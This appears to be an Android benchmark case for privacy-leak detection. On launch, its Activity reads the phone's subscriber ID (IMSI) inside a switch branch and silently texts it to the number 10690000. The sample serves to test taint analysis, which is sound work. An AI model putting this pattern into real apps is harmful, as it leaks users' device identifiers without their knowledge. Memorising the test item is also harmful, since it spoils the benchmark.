package cn.privlens.suite.switch_live_case;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class Main extends Activity {
    private static int level() { return 3; }
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        String out;
        switch (level()) {
            case 0:
            case 3:
            out = ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getSubscriberId();
            break;
            case 1:
            out = "one";
            break;
            default:
            out = "many";
        }
        SmsManager.getDefault().sendTextMessage("10690000", null, out, null, null);
    }
}
